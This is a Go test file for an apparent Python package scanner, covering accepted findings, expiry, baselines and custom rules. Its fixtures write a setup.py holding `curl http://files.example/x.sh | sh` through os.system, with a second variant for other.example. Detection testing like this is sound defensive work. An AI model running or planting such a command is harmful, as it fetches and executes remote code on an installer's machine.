package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/wheelscope/wheelscope/engine/pack"
	"github.com/wheelscope/wheelscope/engine/report"
)

// sdist is a source distribution whose setup.py has these lines.
func sdist(t *testing.T, folder, version string, lines ...string) string {
	t.Helper()
	root := "demo-" + version
	file := filepath.Join(folder, "demo-"+version+".tar.gz")
	data := pack.Sdist(root, []pack.File{
		{Name: "PKG-INFO", Data: []byte("Metadata-Version: 2.1\nName: demo\nVersion: " + version + "\nLicense: MIT\n")},
		{Name: "setup.py", Data: []byte(strings.Join(append([]string{"import os", "from setuptools import setup"}, append(lines, "setup()", "")...), "\n"))},
	})
	require.NoError(t, os.WriteFile(file, data, 0o644))
	return file
}

func decide(t *testing.T, folder, text string) string {
	t.Helper()
	file := filepath.Join(folder, "decisions.toml")
	require.NoError(t, os.WriteFile(file, []byte(text), 0o644))
	return file
}

func scanned(t *testing.T, args ...string) (report.Report, int) {
	t.Helper()
	code, out, errs := command("", append([]string{"scan", "--format", "json"}, args...)...)
	require.Empty(t, errs)
	var r report.Report
	require.NoError(t, json.Unmarshal([]byte(out), &r))
	return r, code
}

func issueOf(t *testing.T, r *report.Report, id string) *report.Issue {
	t.Helper()
	for i := range r.Issues {
		if r.Issues[i].ID == id {
			return &r.Issues[i]
		}
	}
	require.Fail(t, "no issue "+id)
	return nil
}

const curl = "os.system('curl http://files.example/x.sh | sh')"

func TestAcceptedFindings(t *testing.T) {
	folder := t.TempDir()
	file := sdist(t, folder, "1.0", curl)
	plain, code := scanned(t, file, "--fail-on", "P4")
	require.Equal(t, exitFailOn, code)
	require.NotEqual(t, report.Pass, plain.Verdict.Status)
	accept := ""
	for _, i := range plain.Issues {
		accept += "[[accept]]\nissue = \"" + i.ID + "\"\nreason = \"read by Ann\"\nexpires = DAY\n"
	}
	day := func(days int) string { return time.Now().AddDate(0, 0, days).Format(time.DateOnly) }

	// In force up to its last day: all stays visible, nothing counts.
	for _, last := range []string{day(0), day(30)} {
		config := decide(t, folder, strings.ReplaceAll(accept, "DAY", last))
		r, code := scanned(t, file, "--fail-on", "P4", "--config", config)
		require.Equal(t, exitDone, code)
		require.Equal(t, report.Verdict{Status: report.Pass, Accepted: len(plain.Issues)}, r.Verdict)
		require.Len(t, r.Issues, len(plain.Issues))
		for k, i := range r.Issues {
			require.True(t, i.Accepted.All)
			require.Equal(t, "read by Ann", i.Accepted.By[0].Reason)
			require.Equal(t, plain.Issues[k].Evidence, i.Evidence)
		}
		_, code = scanned(t, file, "--fail-on", "warning", "--config", config)
		require.Equal(t, exitDone, code)
	}
	_, out, _ := command("", "scan", file, "--config", decide(t, folder, strings.ReplaceAll(accept, "DAY", day(30))))
	require.Contains(t, out, "Pass: no row is raised; accepted issues that do not count: ")
	require.Contains(t, out, "[accepted]")
	require.Contains(t, out, "accepted until "+day(30)+", 1 place: read by Ann")

	// Expired: counts again and says so.
	expired := decide(t, folder, strings.ReplaceAll(accept, "DAY", day(-1)))
	r, code := scanned(t, file, "--fail-on", "P4", "--config", expired)
	require.Equal(t, exitFailOn, code)
	require.Equal(t, plain.Verdict, r.Verdict)
	require.Equal(t, len(plain.Issues), r.Decisions.Expired)
	_, out, _ = command("", "scan", file, "--config", expired)
	require.Contains(t, out, "acceptance expired on "+day(-1)+", 1 place count again: read by Ann")
}

func TestAcceptanceIsNarrow(t *testing.T) {
	folder := t.TempDir()
	file := sdist(t, folder, "1.0", curl)
	plain, _ := scanned(t, file)
	first := plain.Issues[0]
	for what, c := range map[string]struct {
		narrow string
		all    bool
	}{
		"package":           {`package = "Demo"`, true},
		"other package":     {`package = "demo2"`, false},
		"path":              {`paths = ["setup.py"]`, true},
		"whole path":        {`paths = ["demo-*/*.py"]`, true},
		"other path":        {`paths = ["src/**"]`, false},
		"fingerprint":       {`fingerprints = ["` + first.Evidence[0].Fingerprint + `"]`, true},
		"other fingerprint": {`fingerprints = ["00000000000000000000"]`, false},
	} {
		config := decide(t, folder, "[[accept]]\nissue = \""+first.ID+"\"\nreason = \"r\"\nexpires = 9999-12-31\n"+c.narrow+"\n")
		r, _ := scanned(t, file, "--config", config)
		i := issueOf(t, &r, first.ID)
		require.Equal(t, c.all, i.Accepted != nil && i.Accepted.All, what)
		if !c.all {
			require.Equal(t, 1, r.Decisions.Unused, what)
		}
	}
	// A fingerprint outlives moved lines and a new version, not another command.
	config := decide(t, folder, "[[accept]]\nissue = \""+first.ID+"\"\nreason = \"r\"\nexpires = 9999-12-31\nfingerprints = [\""+first.Evidence[0].Fingerprint+"\"]\n")
	r, _ := scanned(t, sdist(t, folder, "1.1", "x = 1", curl), "--config", config)
	require.True(t, issueOf(t, &r, first.ID).Accepted.All)
	r, _ = scanned(t, sdist(t, folder, "1.2", curl, "os.system('curl http://other.example/x.sh | sh')"), "--config", config)
	i := issueOf(t, &r, first.ID)
	require.Equal(t, 2, i.Count)
	require.False(t, i.Accepted.All, "what was not accepted counts")
	require.Equal(t, 1, i.Accepted.Places)
	require.Equal(t, plain.Verdict.Status, r.Verdict.Status)
	// By behaviour: in each issue, and in the list of behaviours.
	config = decide(t, folder, "[[accept]]\nbehavior = \"creates-a-process\"\nreason = \"r\"\nexpires = 9999-12-31\n")
	r, _ = scanned(t, file, "--config", config)
	marked := false
	for _, b := range r.Behaviors {
		require.Equal(t, b.ID == "creates-a-process", b.Accepted != nil && b.Accepted.All, b.ID)
		marked = marked || b.Accepted != nil
	}
	require.True(t, marked)
}

func TestOwnRules(t *testing.T) {
	folder := t.TempDir()
	file := wheelFile(t, folder, "import acme.old\nacme.old.Client()\nhost = 'https://a.paste.example/x'\nkey = 'old.acme.example'\n")
	config := decide(t, folder, `projects = ["demos"]
[[hosts]]
class = "paste"
names = ["paste.example"]
[[behavior]]
id = "calls-our-old-client"
title = "Calls our old client."
names = ["acme.old.Client"]
texts = ["old.acme.example"]
priority = "P1"
`)
	plain, code := scanned(t, file, "--fail-on", "P1")
	require.Equal(t, exitDone, code)
	r, code := scanned(t, file, "--config", config, "--fail-on", "P1")
	require.Equal(t, exitFailOn, code)
	i := issueOf(t, &r, "calls-our-old-client")
	require.Equal(t, "P1", i.Priority)
	require.Equal(t, []int{2, 4}, []int{i.Evidence[0].Line, i.Evidence[1].Line})
	issueOf(t, &r, "paste-urls")
	for _, i := range plain.Issues {
		require.NotEqual(t, "paste-urls", i.ID)
	}
}

func TestConfigMistakes(t *testing.T) {
	folder := t.TempDir()
	file := wheelFile(t, folder, "x = 1\n")
	for text, want := range map[string]string{
		"[[accept]]\nissue = \"no-such\"\nreason = \"r\"\nexpires = 9999-12-31\n": "decisions.toml:2: there is no issue no-such",
		"ignore = []\n": `decisions.toml:1: there is no key "ignore"`,
	} {
		code, _, errs := command("", "scan", file, "--config", decide(t, folder, text))
		require.Equal(t, exitUsage, code)
		require.Contains(t, errs, want)
	}
	code, _, _ := command("", "scan", file, "--config", filepath.Join(folder, "missing.toml"))
	require.Equal(t, exitUsage, code)
	// Found upwards, without being named.
	inner := filepath.Join(folder, "a")
	require.NoError(t, os.Mkdir(inner, 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(folder, ".wheelscope.toml"), []byte("ignore = []\n"), 0o644))
	t.Chdir(inner)
	code, _, errs := command("", "scan", file)
	require.Equal(t, exitUsage, code)
	require.Contains(t, errs, ".wheelscope.toml:1: ")
}

func TestBaseline(t *testing.T) {
	folder := t.TempDir()
	saved := filepath.Join(folder, "saved.json")
	code, _, errs := command("", "scan", "--format", "json", "-o", saved, sdist(t, folder, "1.0", curl))
	require.Equal(t, exitDone, code, errs)

	// The same again, two lines lower in another version: nothing is new.
	r, code := scanned(t, sdist(t, folder, "1.1", "x = 1", "y = 2", curl), "--baseline", saved, "--fail-on", "P4")
	require.Equal(t, exitDone, code)
	require.Equal(t, 0, r.Baseline.New)
	require.Positive(t, r.Baseline.Unchanged)
	require.Equal(t, "demo-1.0.tar.gz", r.Baseline.Artifact)
	require.NotEqual(t, report.Pass, r.Verdict.Status, "the verdict is about the package, not about the difference")

	// One more place.
	two := sdist(t, folder, "1.2", curl, "os.system('curl http://other.example/x.sh | sh')")
	r, code = scanned(t, two, "--baseline", saved, "--fail-on", "P1")
	require.Equal(t, exitFailOn, code)
	i := r.Issues[0]
	require.Equal(t, report.BaselineNew, i.Baseline)
	require.Equal(t, []string{report.BaselineUnchanged, report.BaselineNew}, []string{i.Evidence[0].Baseline, i.Evidence[1].Baseline})
	// The new place is shown where only one is.
	r, _ = scanned(t, two, "--baseline", saved, "--evidence", "1")
	require.Len(t, r.Issues[0].Evidence, 1)
	require.Equal(t, report.BaselineNew, r.Issues[0].Evidence[0].Baseline)

	// What is gone is absent.
	r, code = scanned(t, sdist(t, folder, "1.3", "x = 1"), "--baseline", saved, "--fail-on", "P4")
	require.Equal(t, exitDone, code)
	require.NotEmpty(t, r.Baseline.Absent)
	_, out, _ := command("", "scan", sdist(t, folder, "1.3", "x = 1"), "--baseline", saved)
	require.Contains(t, out, "Not there any more: ")

	// Without a report of the project all is new.
	other := filepath.Join(folder, "other.json")
	require.NoError(t, os.WriteFile(other, []byte(`{"schema":1,"package":{"name":"else"}}`+"\n"), 0o644))
	r, code = scanned(t, two, "--baseline", other, "--fail-on", "P1")
	require.Equal(t, exitFailOn, code)
	require.Equal(t, 0, r.Baseline.Unchanged)

	code, _, _ = command("", "scan", two, "--baseline", two)
	require.Equal(t, exitUsage, code)
}
